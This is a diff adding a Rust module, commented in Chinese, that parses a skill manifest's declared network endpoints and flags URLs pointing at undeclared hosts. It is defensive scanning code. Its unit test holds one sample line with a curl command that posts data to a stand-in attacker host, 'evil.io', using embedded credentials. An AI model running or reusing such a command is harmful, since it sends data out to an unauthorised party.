@@ -0,0 +1,130 @@
+use lazy_static::lazy_static;
+use regex::Regex;
+
+/// 未声明网络端点的规则 ID（不在内置规则表中，由端点交叉检查产生）
+pub const UNDECLARED_ENDPOINT_RULE_ID: &str = "UNDECLARED_ENDPOINT";
+
+/// 总是允许的本机地址
+const LOOPBACK_HOSTS: &[&str] = &["localhost", "127.0.0.1", "0.0.0.0", "::1"];
+
+lazy_static! {
+    static ref URL_HOST: Regex =
+        Regex::new(r#"(?i)\b(?:https?|wss?|ftp)://([^\s/'"<>()\[\]{}`\\?#|]+)"#).expect("Invalid regex pattern");
+}
+
+/// 技能声明的网络端点（frontmatter 中的 `network: [api.example.com, "*.example.org"]`）
+///
+/// 主机名精确匹配；`*.` 前缀的条目同时匹配该域名及其所有子域名
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct EndpointAllowlist {
+    hosts: Vec<String>,
+}
+
+impl EndpointAllowlist {
+    /// 解析 SKILL.md frontmatter 中的 network 字段：列表或逗号分隔的字符串，`network: false` 表示不访问任何端点。
+    /// 未声明（或为 true）时返回 None，不做交叉检查
+    pub fn from_manifest(skill_md: &str) -> Option<Self> {
+        let mut lines = skill_md.lines();
+        if lines.next().map(str::trim_end) != Some("---") {
+            return None;
+        }
+        let frontmatter: Vec<&str> = lines.take_while(|line| line.trim_end() != "---").collect();
+        let value: serde_yaml::Value = serde_yaml::from_str(&frontmatter.join("\n")).ok()?;
+
+        let entries: Vec<String> = match value.get("network")? {
+            serde_yaml::Value::Bool(false) => Vec::new(),
+            serde_yaml::Value::String(list) => list.split(',').map(str::to_string).collect(),
+            serde_yaml::Value::Sequence(items) => items.iter().filter_map(|item| item.as_str()).map(str::to_string).collect(),
+            _ => return None,
+        };
+
+        let mut hosts: Vec<String> = Vec::new();
+        for host in entries.iter().filter_map(|entry| normalize_declared(entry)) {
+            if !hosts.contains(&host) {
+                hosts.push(host);
+            }
+        }
+        Some(Self { hosts })
+    }
+
+    pub fn hosts(&self) -> &[String] {
+        &self.hosts
+    }
+
+    /// 主机是否已声明（本机地址总是允许）
+    pub fn allows(&self, host: &str) -> bool {
+        if LOOPBACK_HOSTS.contains(&host) {
+            return true;
+        }
+        self.hosts.iter().any(|declared| match declared.strip_prefix("*.") {
+            Some(domain) => host == domain || host.ends_with(&format!(".{}", domain)),
+            None => host == declared,
+        })
+    }
+
+    /// 一行内容中出现的未声明主机（按出现顺序去重）
+    pub fn undeclared_hosts(&self, line: &str) -> Vec<String> {
+        let mut hosts: Vec<String> = Vec::new();
+        for captures in URL_HOST.captures_iter(line) {
+            let Some(host) = normalize_host(&captures[1]) else {
+                continue;
+            };
+            if !self.allows(&host) && !hosts.contains(&host) {
+                hosts.push(host);
+            }
+        }
+        hosts
+    }
+}
+
+/// 从 URL 的 authority 部分提取主机名（去掉用户信息与端口，小写）；
+/// 不像主机名的内容（如模板变量）返回 None
+fn normalize_host(authority: &str) -> Option<String> {
+    let host = authority.rsplit('@').next().unwrap_or(authority);
+    let host = match host.strip_prefix('[') {
+        Some(rest) => rest.split(']').next().unwrap_or(rest),
+        None => host.split(':').next().unwrap_or(host),
+    };
+    let host = host.trim_end_matches('.').to_ascii_lowercase();
+
+    let looks_like_host = host == "localhost"
+        || host.contains(':')
+        || (host.contains('.') && host.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-'));
+    looks_like_host.then_some(host)
+}
+
+/// 规范化声明的端点：允许写成完整 URL 或带端口，保留 `*.` 通配前缀
+fn normalize_declared(entry: &str) -> Option<String> {
+    let entry = entry.trim();
+    let entry = entry.split_once("://").map_or(entry, |(_, rest)| rest);
+    let authority = entry.split(['/', '?', '#']).next().unwrap_or(entry);
+
+    match authority.strip_prefix("*.") {
+        Some(domain) => normalize_host(domain).map(|domain| format!("*.{}", domain)),
+        None => normalize_host(authority),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_endpoint_allowlist() {
+        let manifest = "---\nname: demo\nnetwork: [api.example.com, \"*.cdn.example.org\", https://Hooks.Example.net:443/v1]\n---\n";
+        let allowlist = EndpointAllowlist::from_manifest(manifest).unwrap();
+        assert_eq!(allowlist.hosts(), ["api.example.com", "*.cdn.example.org", "hooks.example.net"]);
+
+        assert!(allowlist.allows("api.example.com"));
+        assert!(allowlist.allows("img.cdn.example.org"));
+        assert!(allowlist.allows("localhost"));
+        assert!(!allowlist.allows("evil.api.example.com"));
+
+        let line = r#"fetch("https://api.example.com/x"); curl -d @data https://user:pw@Evil.io:8080/up; see http://${HOST}/ https://evil.io"#;
+        assert_eq!(allowlist.undeclared_hosts(line), vec!["evil.io".to_string()]);
+
+        let none = EndpointAllowlist::from_manifest("---\nnetwork: false\n---\n").unwrap();
+        assert!(none.hosts().is_empty());
+        assert!(EndpointAllowlist::from_manifest("---\nname: demo\n---\n").is_none());
+    }
+}